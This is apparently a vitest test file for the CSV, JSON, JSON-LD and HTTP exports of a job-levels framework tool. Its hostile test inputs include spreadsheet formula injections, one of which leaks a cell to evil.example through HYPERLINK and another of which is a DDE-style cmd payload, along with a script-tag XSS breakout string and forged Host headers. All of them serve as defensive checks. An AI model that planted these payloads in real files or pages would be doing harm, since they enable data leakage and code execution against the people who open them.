import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { DEFAULT_CONTENT_DIR, EXPORT_SCHEMA_PATH, loadFrameworkOrThrow, type Framework } from '@altitude/schema';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, startCliServer, type CliServer } from '../support/cli.js';
import { editContent } from '../support/content.js';
import { rawRequest } from '../support/raw-request.js';

let framework: Framework;
let work: string;
beforeAll(async () => {
  framework = await loadFrameworkOrThrow(DEFAULT_CONTENT_DIR);
  work = await mkdtemp(path.join(os.tmpdir(), 'altitude-export-'));
});

/** A copy of content/ (in `work`) with `edit` applied to levels.yaml, for content an attacker could have written. */
async function hostileContent(name: string, edit: (text: string) => string): Promise<string> {
  const dir = path.join(work, name);
  await cp(DEFAULT_CONTENT_DIR, dir, { recursive: true });
  await editContent(dir, 'levels.yaml', edit);
  return dir;
}
afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

const exportCli = async (...args: string[]) => {
  const run = await runCli(['export', ...args], { cwd: work });
  if (run.code !== 0) throw new Error(`export ${args.join(' ')} exited ${run.code}: ${run.stderr}`);
  return run.stdout;
};

describe('CSV: one job profile per level', () => {
  it('parses back with a real CSV parser: header, one row per level, one column per dimension', async () => {
    const text = await exportCli('--format', 'csv');
    expect(text).toContain('\r\n');
    const rows = parseCsv<Record<string, string>>(text, { columns: true, bom: true });
    expect(rows.map((r) => r['Job Code'])).toEqual(['ENG-IC-STAFF', 'ENG-IC-PRINCIPAL', 'ENG-IC-DISTINGUISHED']);
    expect(Object.keys(rows[0]!)).toEqual([
      'Job Code',
      'Job Title',
      'Job Family',
      'Rank',
      'Summary',
      ...framework.dimensions.map((d) => d.title),
      'Description',
      'Interpreted Dimensions',
    ]);
    // The last column names the dimensions where a level's text is the framework's reading.
    for (const [i, level] of framework.levels.entries()) {
      const interpreted = level.expectations.filter((e) => e.basis === 'interpreted').map((e) => e.dimension.title);
      expect(rows[i]!['Interpreted Dimensions'], level.slug).toBe(interpreted.join('; '));
    }
    expect(rows.some((r) => r['Interpreted Dimensions'] !== '')).toBe(true);
    expect(rows[2]).toMatchObject({ 'Job Title': 'Distinguished Engineer', 'Job Family': 'Engineering', Rank: '3' });
    expect(rows[2]!['Operating scope']).toMatch(/^The whole company\. /);
    expect(rows.every((r) => !/[<*]/.test(Object.values(r).join(' ')))).toBe(true);
  });

  it('starts with a byte-order mark with --bom, and writes atomically to --out', async () => {
    const stdout = await exportCli('--format', 'csv', '--bom');
    expect(stdout.charCodeAt(0)).toBe(0xfeff);
    await exportCli('--format', 'csv', '--out', 'levels.csv');
    expect(await readFile(path.join(work, 'levels.csv'), 'utf8')).toBe(await exportCli('--format', 'csv'));
  });

  it('quotes fields that hold line breaks, as RFC 4180 requires', async () => {
    await writeFile(path.join(work, 'altitude.config.json'), JSON.stringify({ jobFamily: 'Software\r\nEngineering, "core"' }));
    try {
      const text = await exportCli('--format', 'csv');
      expect(text).toContain('"Software\r\nEngineering, ""core"""');
      const rows = parseCsv<Record<string, string>>(text, { columns: true, record_delimiter: '\r\n' });
      expect(rows).toHaveLength(3);
      expect(rows[0]!['Job Family']).toBe('Software\r\nEngineering, "core"');
    } finally {
      await rm(path.join(work, 'altitude.config.json'));
    }
  });

  it('neutralises cells that a spreadsheet would run as a formula (=, +, -, @), and parses back to the text with an apostrophe', async () => {
    const content = await hostileContent('formula-content', (text) =>
      text
        .replace('title: Staff Engineer', `title: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Staff\\")"`)
        .replace(
          'Works across an organisation, typically one a VP leads',
          "@SUM(1+1)*cmd|' /C calc'!A0 Works across an organisation, typically one a VP leads",
        )
        .replace(/(operating-scope:\n\s+headline: )The whole company/, "$1'+1+1'"),
    );
    await writeFile(path.join(work, 'formula.config.json'), JSON.stringify({ jobCodes: { distinguished: '-2+3+cmd|A0' } }));
    const csv = await exportCli('--format', 'csv', '--content', content, '--config', 'formula.config.json');
    await rm(path.join(work, 'formula.config.json'));
    const rows: string[][] = parseCsv(csv, { record_delimiter: '\r\n' });
    const cells = rows.flat();
    // No cell of the file starts a formula; each hostile one reads back as its text behind an apostrophe.
    expect(cells.filter((c) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(c))).toEqual([]);
    expect(rows[1]![1]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Staff")`);
    expect(rows[2]![4]).toMatch(/^'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0 Works across an organisation/);
    expect(rows[3]![0]).toBe(`'-2+3+cmd|A0`);
    expect(rows[3]![5]).toMatch(/^'\+1\+1\. /);
  });

  it('takes job codes and family from altitude.config.yaml', async () => {
    await writeFile(
      path.join(work, 'altitude.config.yaml'),
      'jobFamily: Software Engineering\njobCodes:\n  staff: ENG-510\n  distinguished: ENG-700\n',
    );
    try {
      const rows = parseCsv<Record<string, string>>(await exportCli('--format', 'csv'), { columns: true });
      expect(rows.map((r) => `${r['Job Code']} ${r['Job Family']}`)).toEqual([
        'ENG-510 Software Engineering',
        'ENG-IC-PRINCIPAL Software Engineering',
        'ENG-700 Software Engineering',
      ]);
    } finally {
      await rm(path.join(work, 'altitude.config.yaml'));
    }
  });
});

describe('canonical JSON', () => {
  it('validates against the published JSON Schema and carries versions and hashes', async () => {
    const json = JSON.parse(await exportCli('--format', 'json')) as Record<string, any>;
    const schema = JSON.parse(await readFile(EXPORT_SCHEMA_PATH, 'utf8')) as object;
    const validate = new Ajv2020({ allErrors: true, strict: true, validateFormats: false }).compile(schema);
    expect(validate(json) ? [] : validate.errors).toEqual([]);
    expect(json.$schema).toBe('http://127.0.0.1:4000/export/framework.schema.json');
    expect(json.framework).toMatchObject({ version: framework.version, contentHash: framework.contentHash });
    expect(json.levels.map((l: { slug: string; contentHash: string }) => [l.slug, l.contentHash])).toEqual(
      framework.levels.map((l) => [l.slug, l.contentHash]),
    );
    // The schema rejects what it should.
    expect(validate({ ...json, levels: [{ ...json.levels[0], rank: 'one' }] })).toBe(false);
  });
});

describe('JSON-LD', () => {
  it('describes each level as a schema.org Occupation with responsibilities and skills', async () => {
    const doc = JSON.parse(await exportCli('--format', 'jsonld')) as { '@context': string; '@graph': Record<string, any>[] };
    expect(doc['@context']).toBe('https://schema.org');
    expect(doc['@graph']).toHaveLength(3);
    for (const occupation of doc['@graph']) {
      expect(occupation['@type']).toBe('Occupation');
      expect(typeof occupation.name).toBe('string');
      expect(typeof occupation.description).toBe('string');
      expect(occupation.responsibilities).toHaveLength(framework.dimensions.length);
      expect(occupation.skills).toHaveLength(framework.capabilities.length);
      expect(occupation.skills.every((s: { '@type': string }) => s['@type'] === 'DefinedTerm')).toBe(true);
      expect(occupation.occupationalCategory).toBeUndefined();
    }
  });

  it('can be pasted into a <script type="application/ld+json">: no "<" in the text, the same strings once parsed', async () => {
    const title = '</script><script>alert(1)</script><!--';
    const content = await hostileContent('script-content', (text) => text.replace('title: Staff Engineer', `title: '${title}'`));
    const text = await exportCli('--format', 'jsonld', '--content', content);
    expect(text).not.toContain('<');
    expect(text).toContain(String.raw`\u003c/script>`);
    const doc = JSON.parse(text) as { '@graph': Record<string, any>[] };
    expect(doc['@graph'][0]!.name).toBe(title);
  });

  it('adds occupationalCategory when configured', async () => {
    await writeFile(
      path.join(work, 'altitude.config.json'),
      JSON.stringify({
        occupationalCategory: { codeValue: '15-1252.00', inCodeSet: 'https://www.onetonline.org/', name: 'Software Developers' },
      }),
    );
    try {
      const doc = JSON.parse(await exportCli('--format', 'jsonld')) as { '@graph': Record<string, any>[] };
      expect(doc['@graph'][0]!.occupationalCategory).toEqual({
        '@type': 'CategoryCode',
        codeValue: '15-1252.00',
        inCodeSet: 'https://www.onetonline.org/',
        name: 'Software Developers',
      });
    } finally {
      await rm(path.join(work, 'altitude.config.json'));
    }
  });
});

describe('a bad config', () => {
  it.each([
    [
      'altitude.config.yaml',
      'jobFamly: X\n',
      /^altitude: invalid config:\n {2}altitude\.config\.yaml:1:1 jobFamly: unknown field "jobFamly" \(did you mean "jobFamily"\?\)/,
    ],
    [
      'altitude.config.yaml',
      'jobCodes:\n  staf: ENG-1\n',
      /altitude\.config\.yaml:2:3 jobCodes\.staf: unknown level "staf" \(did you mean "staff"\?\); known levels: staff, principal, distinguished/,
    ],
    ['altitude.config.json', '{ "publicUrl": "not a url" }', /altitude\.config\.json:1:16 publicUrl: /],
    [
      'altitude.config.yaml',
      'jobCodes:\n  staff: ENG-1\n  principal: ENG-1\n',
      /altitude\.config\.yaml:3:\d+ jobCodes\.principal: job code "ENG-1" is already given to level "staff"/,
    ],
  ])('%s %j is a clear error naming the key, exit 2', async (name, text, message) => {
    await writeFile(path.join(work, name), text);
    try {
      const run = await runCli(['export', '--format', 'csv'], { cwd: work });
      expect(run.code).toBe(2);
      expect(run.stdout).toBe('');
      expect(run.stderr).toMatch(message);
    } finally {
      await rm(path.join(work, name));
    }
  });
});

describe('over HTTP', () => {
  let server: CliServer;
  beforeAll(async () => {
    await writeFile(path.join(work, 'altitude.config.json'), JSON.stringify({ publicUrl: 'https://altitude.example.com' }));
    server = await startCliServer([], { cwd: work });
  });
  afterAll(async () => {
    await server?.stop();
    await rm(path.join(work, 'altitude.config.json'), { force: true });
  });

  it.each([
    ['/export/framework.json', 'json', 'application/json; charset=utf-8'],
    ['/export/levels.csv', 'csv', 'text/csv; charset=utf-8; header=present'],
    ['/export/framework.jsonld', 'jsonld', 'application/ld+json; charset=utf-8'],
  ])('%s serves the same bytes as the CLI, with an ETag', async (url, format, type) => {
    const response = await fetch(`${server.url}${url}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(type);
    expect(await response.text()).toBe(await exportCli('--format', format));
    const etag = response.headers.get('etag')!;
    expect((await fetch(`${server.url}${url}`, { headers: { 'if-none-match': etag } })).status).toBe(304);
  });

  it('publishes the JSON Schema the export points at', async () => {
    const json = (await (await fetch(`${server.url}/export/framework.json`)).json()) as { $schema: string };
    expect(json.$schema).toBe('https://altitude.example.com/export/framework.schema.json');
    const schema = await fetch(`${server.url}/export/framework.schema.json`);
    expect(schema.headers.get('content-type')).toBe('application/schema+json; charset=utf-8');
    expect(await schema.text()).toBe(await readFile(EXPORT_SCHEMA_PATH, 'utf8'));
  });

  it('links to the publicUrl of altitude.config.json everywhere, whatever Host and X-Forwarded-* say', async () => {
    const forged = { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'http' };
    const page = 'https://altitude.example.com/embed/level/staff';
    for (const target of [
      '/',
      '/embed/level/staff',
      `/oembed?url=${encodeURIComponent(page)}`,
      '/embed-forms?widget=level&level=staff',
      '/export/framework.json',
      '/export/framework.jsonld',
    ]) {
      const answer = await rawRequest(server.url, target, forged);
      expect.soft(answer.status, target).toBe(200);
      expect.soft(answer.body.toString(), target).toContain('https://altitude.example.com/');
      expect.soft(answer.body.toString(), target).not.toContain('evil');
    }
  });

  it('offers the CSV as a download, with a BOM on request', async () => {
    const response = await fetch(`${server.url}/export/levels.csv?bom=1`);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="levels.csv"');
    expect((await response.arrayBuffer()).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]).buffer);
  });
});
